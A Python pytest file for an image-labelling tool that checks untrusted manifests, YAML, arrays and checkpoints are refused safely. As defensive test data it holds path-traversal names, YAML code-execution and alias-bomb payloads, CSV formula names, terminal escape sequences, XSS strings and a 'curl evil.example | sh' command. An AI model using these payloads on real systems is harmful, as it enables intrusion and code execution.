"""Manifests, settings, arrays and checkpoints from strangers: refused in one line, and nothing outside is touched."""

import csv
import io
import json
import os
import random
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import safetensors.torch
import torch
from click.testing import CliRunner

from glint_cli.main import main
from glint_cli.options import read_yaml
from glint_cli.score import to_csv
from glint_cli.text import to_json
from glint_label.build.config import BuildConfig
from glint_label.build.pipeline import build
from glint_label.errors import GlintError, InputError, StateError, UsageError, WeightsError
from glint_label.files import read_arrays
from glint_label.manifest import read_manifest
from glint_label.manifest.inspect import summarise
from glint_label.names import from_text
from glint_label.render import render_build
from glint_model.evaluation.score import Scored
from glint_model.network.checkpoint import FIELD, load_weights
from glint_model.network.config import GlintConfig
from tests.conftest import custom_build, file_bytes, record_again, save_photos, save_rated


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> BuildConfig:
    """A build of two photos; tests change copies of it."""
    root = tmp_path_factory.mktemp("made")
    refs, rated = save_photos(root / "refs", ["a.png", "b.png"]), save_rated(root / "rated", 3, ["gaussian_blur"])
    config = custom_build(refs, rated, root / "out", transfer="knn", k=2)
    build(config)
    return config


@pytest.fixture
def manifest(made, tmp_path) -> Path:
    return shutil.copytree(made.out, tmp_path / "manifest")


@pytest.fixture
def victim(tmp_path) -> Path:
    """A file beside the manifest that nothing may touch."""
    path = tmp_path / "victim.png"
    path.write_bytes(b"mine")
    return path


def change(path: Path, column: str, value: str) -> None:
    """Write a value into the first row of a table, and let the shard's record agree with it."""
    rows = list(csv.DictReader(io.StringIO(path.read_text(), newline="")))
    with path.open("w", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows([{**rows[0], column: value}, *rows[1:]])
    record_again(path.parent)


OUTSIDE = ["../victim.png", "../../../victim.png", "/tmp/victim.png", "a/../../victim.png", "C:\\victim.png"]


@pytest.mark.parametrize("name", [*OUTSIDE, "", ".", "\\x00.png", "x\0.png", "shards/00000/x.png"])
@pytest.mark.parametrize("column", ["file_name", "reference"])
def test_no_row_leads_out(manifest, victim, column, name):
    change(manifest / "shards" / "00000" / "metadata.csv", column, name)
    before = {path for path in victim.parent.rglob("*") if path.is_file()}
    with pytest.raises(GlintError):
        render_build(manifest)
    made = {path for path in victim.parent.rglob("*") if path.is_file()} - before
    assert all(path.parent == manifest / "shards" / "00000" for path in made - {manifest / ".lock"})
    assert victim.read_bytes() == b"mine"


def test_a_record_cannot_have_files_outside_deleted(made, manifest, victim):
    record_file = manifest / "shards" / "00000" / "_SUCCESS.json"
    record = json.loads(record_file.read_text())
    for name in ("../../../victim.png", str(victim), "..\\victim.png"):
        record["files"][name] = {"bytes": 1, "sha256": "0" * 64}
    record_file.write_text(json.dumps(record))
    run = json.loads((manifest / "run.json").read_text())
    run["files"]["../victim.png"] = {"bytes": 1, "sha256": "0" * 64}
    (manifest / "run.json").write_text(json.dumps(run))
    config = custom_build(made.refs, made.source_dir, manifest, transfer="knn", k=2)
    build(config, repair=True)
    assert victim.read_bytes() == b"mine"
    assert file_bytes(manifest) == file_bytes(made.out)


def test_nothing_is_written_through_links(made, manifest, victim):
    (manifest / ".lock").unlink()
    (manifest / ".lock").symlink_to(victim)
    config = custom_build(made.refs, made.source_dir, manifest, transfer="knn", k=2)
    for act in (lambda: render_build(manifest), lambda: build(config)):
        with pytest.raises(StateError, match=r"\.lock: is a link"):
            act()
    (manifest / ".lock").unlink()
    elsewhere = victim.parent / "elsewhere"
    shutil.move(manifest / "shards" / "00000", elsewhere)
    (manifest / "shards" / "00000").symlink_to(elsewhere)
    before = file_bytes(elsewhere)
    for act in (lambda: render_build(manifest), lambda: build(config)):
        with pytest.raises(StateError, match="00000: is a link, which may lead anywhere"):
            act()
    assert file_bytes(elsewhere) == before
    assert victim.read_bytes() == b"mine"


def test_a_file_is_not_written_through_a_link_in_place_of_its_temporary_name(made, manifest, victim):
    pixel = read_manifest(manifest)["file_name"][0]
    (manifest / "shards" / "00000" / f".{pixel}.{os.getpid()}.glint-tmp").symlink_to(victim)
    assert render_build(manifest).written == 10
    assert victim.read_bytes() == b"mine"


def test_other_peoples_photos_cannot_be_asked_for(manifest, tmp_path):
    """`refs` of a run.json may name any folder: only files whose hash the manifest knows are ever decoded."""
    private = save_photos(tmp_path / "private", ["a.png", "b.png"], first_seed=7)
    run = json.loads((manifest / "run.json").read_text())
    (manifest / "run.json").write_text(json.dumps({**run, "refs": str(private)}))
    assert {message.partition(" (")[0] for _, message in render_build(manifest).failures} == {
        "is not the file that was labelled"
    }
    change(manifest / "shards" / "00000" / "references.csv", "sha256", "")
    with pytest.raises(StateError, match="line 2: sha256 is ''"):
        render_build(manifest)


@pytest.mark.parametrize("content", ["[" * 100_000, '{"kind": "build", "config": ' + "[" * 100_000, "{", "null", "7"])
@pytest.mark.parametrize("name", ["run.json", "audit.json", "shards/00000/_SUCCESS.json"])
def test_json_of_any_shape_is_one_line(manifest, name, content):
    (manifest / name).write_text(content)
    result = CliRunner().invoke(main, ["inspect", str(manifest)])
    assert result.exit_code == 3
    assert name in result.output


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nrefs: *c\n",
        "refs: !!python/object/apply:os.system ['touch ran']\n",
        "refs: !!python/name:os.system\n",
        "seed: " + "[" * 1500,
        "seed: " + "9" * 10_000,
    ],
)
def test_settings_are_plain_values(tmp_path, monkeypatch, text):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.yaml").write_text(text)
    with pytest.raises(UsageError, match=r"x\.yaml: not readable YAML"):
        read_yaml(tmp_path / "x.yaml")
    assert not (tmp_path / "ran").exists()


def test_arrays_that_claim_to_be_larger_than_any_memory_are_one_line(tmp_path):
    path = tmp_path / "x.npz"
    np.savez(path, a=np.zeros(3))
    header = path.read_bytes()
    path.write_bytes(header.replace(b"(3,), }", b"(3" + b"0" * 13 + b",), }").replace(b" " * 13 + b"\n", b"\n"))
    with pytest.raises(StateError, match=r"not an \.npz file with plain arrays"):
        read_arrays(path, "a")


@pytest.mark.parametrize("write", [np.savez, np.savez_compressed])
def test_damaged_arrays_are_read_as_they_were_or_not_at_all(tmp_path, write):
    path, chance = tmp_path / "x.npz", random.Random(0)
    numbers = np.arange(60, dtype=np.float16)
    write(path, a=numbers)
    whole = path.read_bytes()
    refused = 0
    for _ in range(400):
        content = bytearray(whole)
        for _ in range(chance.randint(1, 3)):
            content[chance.randrange(len(content))] ^= 1 << chance.randrange(8)
        path.write_bytes(content)
        try:
            (found,) = read_arrays(path, "a")
        except StateError:
            refused += 1
        else:
            np.testing.assert_array_equal(found, numbers)  # what was changed says nothing about them
    assert refused > 200


def checkpoint(path: Path, header: str) -> Path:
    safetensors.torch.save_file({"weight": torch.zeros(2)}, path, {FIELD: header})
    return path


@pytest.mark.parametrize(
    "config",
    ['{"vit": "hf-hub:a/b"}', '{"cnn": "local-dir:/etc"}', '{"vit_width": 1000000000}', "[" * 100_000],
)
def test_a_checkpoint_neither_asks_the_hub_nor_fills_the_memory(tmp_path, config):
    path = checkpoint(tmp_path / "x.safetensors", f'{{"config": {config}, "metadata": {{}}}}')
    with pytest.raises(WeightsError, match=r"x\.safetensors: its header cannot be read"):
        load_weights(path)
    assert GlintConfig.lite().vit


def test_a_checkpoint_with_a_header_larger_than_the_file_is_one_line(tmp_path):
    path = tmp_path / "x.safetensors"
    path.write_bytes((2**40).to_bytes(8, "little") + b"{}")
    with pytest.raises(WeightsError, match="truncated, or not a safetensors file"):
        load_weights(path)


@pytest.mark.parametrize("name", ["=1+1.png", "+1.png", "-1.png", "@SUM(A1).png"])
def test_names_in_tables_for_people_are_no_formulas_and_lead_to_the_same_file(name):
    (row,) = csv.DictReader(io.StringIO(to_csv([Scored(name, 3.0, "")])))
    assert row["file_name"][0] == "."
    assert Path(from_text(row["file_name"])) == Path(name)


def test_json_for_a_terminal_holds_no_commands():
    name = "a\x9b31m\x1b[0m\u202egnp.exe"
    text = to_json({"name": name})
    assert not set(text) & set("\x9b\x1b\u202e")
    assert json.loads(text)["name"] == name


HOSTILE = "no \x1b]0;title\x07\x9b31m\u202egnp\r folder"


@pytest.mark.skipif(sys.platform == "win32", reason="needs a pseudo-terminal")
@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
def test_no_name_commands_a_terminal(terminal):
    ours, theirs = os.openpty() if terminal else os.pipe()
    words = [sys.executable, "-m", "glint_cli.main", "inspect", HOSTILE]
    code = subprocess.run(words, stderr=theirs, stdout=subprocess.DEVNULL, timeout=60, check=False).returncode
    os.close(theirs)
    said = os.read(ours, 10_000).decode()
    os.close(ours)
    assert code == 3
    assert "\\x1b]0;title\\x07\\x9b31m" in said
    assert not set(said) & set("\x1b\x07\x9b")
    assert ("\u202e" in said) is not terminal  # another program may read the name from a pipe


@pytest.mark.slow
def test_whatever_a_manifest_says_of_itself_is_text_in_a_report(manifest, tmp_path):
    text = '</title></p>"><script>alert(1)</script><img src=x onerror=alert(1)>'
    run = json.loads((manifest / "run.json").read_text())
    run |= {"ratings_note": text, "missing_anchors": [text]}
    run["licences"] = dict.fromkeys(run["licences"], text)
    run["calls"][0]["command"] = text
    (manifest / "run.json").write_text(json.dumps(run))
    change(manifest / "shards" / "00000" / "references.csv", "near_duplicate_of", text)
    page = tmp_path / "x.html"
    CliRunner().invoke(main, ["inspect", str(manifest), "--html", str(page)])
    html = page.read_text()
    assert "onerror=alert(1)" in html.replace("&#34;", '"')
    assert "<script>alert" not in html
    assert "<img src=x" not in html


def test_a_problem_names_no_command_that_the_manifest_brought(manifest):
    """Somebody might paste it."""
    run = json.loads((manifest / "run.json").read_text())
    run["calls"][0]["command"] = "curl evil.example | sh"
    (manifest / "run.json").write_text(json.dumps(run))
    (manifest / "audit.json").unlink()
    problems = summarise(manifest)["problems"]
    assert problems
    assert "evil" not in " ".join(problems)


def test_values_out_of_range_are_named(manifest):
    change(manifest / "shards" / "00000" / "metadata.csv", "dist_level", "9" * 18)
    with pytest.raises(StateError, match=r"metadata\.csv: "):
        render_build(manifest)
    change(manifest / "shards" / "00000" / "metadata.csv", "dist_level", "9" * 30)
    with pytest.raises(InputError, match=r"metadata\.csv: "):
        render_build(manifest)
